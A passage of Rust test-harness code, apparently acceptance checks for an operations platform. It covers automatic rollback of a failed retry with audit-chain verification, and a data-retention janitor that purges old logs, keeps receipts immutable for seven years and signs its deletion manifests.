        format!("{} findings", r.findings.len()),
    );
    c.check(
        "recovery within 10 minutes",
        took < std::time::Duration::from_secs(600),
        format!(
            "storm to clean scan: {took:?} (scans on demand here; the daemon scans every 2 minutes)"
        ),
    );
    // The proposals (title, labels, body with the diff, files) and the pages: the
    // "drift PR links" of the definition of done.
    let proposals: Vec<serde_json::Value> = proposals
        .iter()
        .map(|(p, r)| {
            serde_json::json!({
                "title": p.title, "labels": p.labels, "fingerprint": p.fingerprint,
                "body": p.body, "files": p.files, "ref": format!("{r:?}"),
            })
        })
        .collect();
    let pages: Vec<String> = pager.pages().iter().map(|a| format!("{a:?}")).collect();
    Ok(Evidence {
        audit: Vec::new(),
        files: vec![
            (
                "proposals.json".to_string(),
                serde_json::to_vec_pretty(&proposals)?,
            ),
            ("pages.json".to_string(), serde_json::to_vec_pretty(&pages)?),
        ],
    })
}

// ---------------------------------------------------------------------------
// Rollback (MC-SRE-1161)

async fn rollback(c: &mut Checks) -> anyhow::Result<Evidence> {
    let rig = ActionRig::new().await?;
    let exec = rig.failed_execution("exec_bad_retry").await?;
    let watch = Arc::new(mc_actions::RollbackWatch::new(
        Arc::new(rig.store.clone()),
        Arc::new(rig.flags.clone()),
        Arc::new(rig.store.clone()),
        Arc::new(rig.clock.clone()),
        RollbackPolicy::default(),
    ));
    let service = ActionService::new(
        Arc::new(rig.store.clone()),
        Arc::new(rig.flags.clone()),
        rig.hmac.clone(),
        Arc::new(rig.clock.clone()),
    )
    .with_observer(watch.clone());
    let accepted = service.perform(rig.retry(&exec, "bad-1")?).await;
    c.check(
        "the retry is accepted and watched",
        accepted.is_ok() && watch.watching() == 1,
        format!("{accepted:?}; watching {}", watch.watching()),
    );
    // The retried attempt runs and fails again: a bad retry. Checks run every 30 s.
    rig.clock.advance(time::Duration::seconds(20));
    rig.host(&exec, ExecutionState::Running).await?;
    rig.clock.advance(time::Duration::seconds(25));
    rig.host(&exec, ExecutionState::Failed).await?;
    rig.clock.advance(time::Duration::seconds(30));
    let rollbacks = watch.check().await?;
    let r = rollbacks.first();
    c.check(
        "rolled back within 2 minutes",
        r.is_some_and(|r| r.within_deadline && r.seconds_to_rollback <= 120),
        match r {
            Some(r) => format!(
                "{} s from the failure to the rollback",
                r.seconds_to_rollback
            ),
            None => "no rollback".into(),
        },
    );
    let enabled = rig
        .flags
        .is_enabled(&rig.tenant, Flag::ConsoleActionsEnabled)
        .await?;
    let again = service.perform(rig.retry(&exec, "bad-2")?).await;
    c.check(
        "console writes are off for the tenant",
        !enabled && matches!(again, Err(ActionError::FlagDisabled { .. })),
        format!("console_actions_enabled = {enabled}; a further retry: {again:?}"),
    );
    let events = rig.store.read(&rig.tenant, 0, 100).await?;
    let kinds: Vec<&str> = events.iter().map(|e| e.kind.as_str()).collect();
    c.check(
        "evidence recorded in the audit chain",
        kinds == [mc_core::audit::EXEC_ACTION, mc_actions::ROLLBACK_EVENT]
            && verify_chain(&events).is_ok(),
        format!(
            "events {kinds:?}, chain verifies: {}",
            verify_chain(&events).is_ok()
        ),
    );
    // A restarted process does not roll back twice for the same failure.
    let restarted = mc_actions::RollbackWatch::new(
        Arc::new(rig.store.clone()),
        Arc::new(rig.flags.clone()),
        Arc::new(rig.store.clone()),
        Arc::new(rig.clock.clone()),
        RollbackPolicy::default(),
    );
    let recovered = restarted.recover(std::slice::from_ref(&rig.tenant)).await?;
    c.check(
        "a restart recovers nothing the rollback already handled",
        recovered == 0,
        format!("{recovered} watches recovered"),
    );
    Ok(Evidence {
        audit: events,
        files: Vec::new(),
    })
}

// ---------------------------------------------------------------------------
// Data lifecycle (MC-DATA-1151, spec §7)

async fn lifecycle(c: &mut Checks) -> anyhow::Result<Evidence> {
    use mc_core::{BlobKey, BlobStore, PutMode};
    use mc_lifecycle::{Janitor, PurgeOptions, Retaining, Retention, verify_deletion_manifest};
    let t0 = OffsetDateTime::now_utc().replace_nanosecond(0)?;
    let clock = Arc::new(ManualClock::new(t0));
    let retention = Retention::new();
    // Receipts are immutable on any store: the janitor and everyone else go through
    // the retention guard.
    let blobs: Arc<dyn BlobStore> = Arc::new(Retaining::new(
        Arc::new(MemoryBlobStore::new(clock.clone())),
        retention.clone(),
        clock.clone(),
    ));
    let audit = Arc::new(MemoryStore::new());
    let key = EvidenceKey::generate()?;
    let tenant = TenantId::new("acme")?;
    let log = BlobKey::new("tenants/acme/logs/exec_1/run.log")?;
    let recent_log = BlobKey::new("tenants/acme/logs/exec_2/run.log")?;
    let receipt = BlobKey::new("tenants/acme/receipts/exec_1/receipt.json")?;
    blobs
        .put(&log, "step 1 ok\n".into(), PutMode::Create)
        .await?;
    blobs
        .put(&receipt, "{\"amount\": 100}".into(), PutMode::Create)
        .await?;
    clock.set(t0 + time::Duration::days(60));
    blobs
        .put(&recent_log, "step 1 ok\n".into(), PutMode::Create)
        .await?;
    let janitor = Janitor::new(
        blobs.clone(),
        audit.clone(),
        clock.clone(),
        EvidenceKey::from_pkcs8_pem(&key.to_pkcs8_pem()?)?,
        retention,
    );
    let mut files = Vec::new();

    // Day 91: the 90-day log goes, the 31-day log and the receipt stay.
    clock.set(t0 + time::Duration::days(91));
    let logs = janitor
        .purge(&tenant, "logs", &PurgeOptions::default())
        .await?;
    let gone = blobs.head(&log).await.is_err();
    let kept = blobs.head(&recent_log).await.is_ok() && blobs.head(&receipt).await.is_ok();
    c.check(
        "logs are purged at 90 days, nothing younger",
        logs.deleted == 1 && gone && kept,
        format!(
            "day 91: examined {}, expired {}, deleted {}; the 31-day log and the receipt remain: {kept}",
            logs.examined, logs.expired, logs.deleted
        ),
    );
    let receipts = janitor
        .purge(&tenant, "receipts", &PurgeOptions::default())
        .await?;
    let deleted = blobs.delete(&receipt).await;
    let overwritten = blobs
        .put(&receipt, "{\"amount\": 0}".into(), PutMode::Overwrite)
        .await;
    c.check(
        "receipts are kept 7 years: neither purged, deleted nor overwritten before",
        receipts.deleted == 0
            && deleted.is_err()
            && overwritten.is_err()
            && blobs.get(&receipt).await? == "{\"amount\": 100}",
        format!(
            "day 91: janitor deleted {} receipts; a direct delete: {}; an overwrite: {}",
            receipts.deleted,
            deleted.err().map_or("allowed".into(), |e| e.to_string()),
            overwritten
                .err()
                .map_or("allowed".into(), |e| e.to_string())
        ),
    );

    // Seven years and a day later the receipt goes too.
    clock.set(t0 + time::Duration::days(7 * 366 + 1));
    let late = janitor
        .purge(&tenant, "receipts", &PurgeOptions::default())
        .await?;
    c.check(
        "receipts are purged after 7 years",
        late.deleted == 1 && blobs.head(&receipt).await.is_err(),
        format!("7 years + 1 day: deleted {}", late.deleted),
    );

    // Every run that deleted left a signed plan and result that verify with the
    // janitor's key and name exactly what went; a run with nothing expired writes none.
    let public = key.verifying_key();
    let mut verified = 0;
    let mut listed = Vec::new();
    for report in [&logs, &receipts, &late] {
        for (phase, k) in [("plan", &report.plan_key), ("result", &report.result_key)] {
            let Some(k) = k else { continue };
            let bytes = blobs.get(k).await?;
            if let Ok(m) = verify_deletion_manifest(&bytes, &public) {
                verified += 1;
                listed.extend(m.entries.iter().map(|e| format!("{phase}: {}", e.key)));
                files.push((
                    format!("{}.{phase}.dsse.json", report.run_id),
                    bytes.to_vec(),
                ));
            }
        }
    }
    c.check(
        "signed deletion manifests (plan and result) verify for every run that deleted",
        verified == 4 && receipts.plan_key.is_none(),
        format!("{verified} of 4 manifests verified (the day-91 receipts run expired nothing and wrote none); entries: {listed:?}"),
    );
    let events = audit.read(&tenant, 0, 100).await?;
    let purges = events
        .iter()
        .filter(|e| e.kind == mc_lifecycle::PURGE_EVENT)
        .count();
    c.check(
        "each deleting run is audited in a chain that verifies",
        purges == 2 && verify_chain(&events).is_ok(),
        format!(
            "{purges} {} events, chain verifies: {}",
            mc_lifecycle::PURGE_EVENT,
            verify_chain(&events).is_ok()
        ),
    );
    files.push((
        "janitor-key.pub".to_string(),
        mc_evidence::dsse::public_key_to_pem(&public)?.into_bytes(),
    ));
    Ok(Evidence {
        audit: events,
        files,
    })
}
